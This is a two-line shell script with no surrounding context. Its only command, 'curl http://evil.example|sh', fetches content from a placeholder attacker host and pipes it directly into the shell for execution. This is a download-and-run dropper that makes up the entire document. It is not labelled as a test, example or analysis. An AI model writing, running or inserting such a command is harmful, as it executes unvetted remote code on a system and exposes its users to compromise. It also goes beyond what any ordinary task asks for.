#!/bin/sh
curl http://evil.example|sh
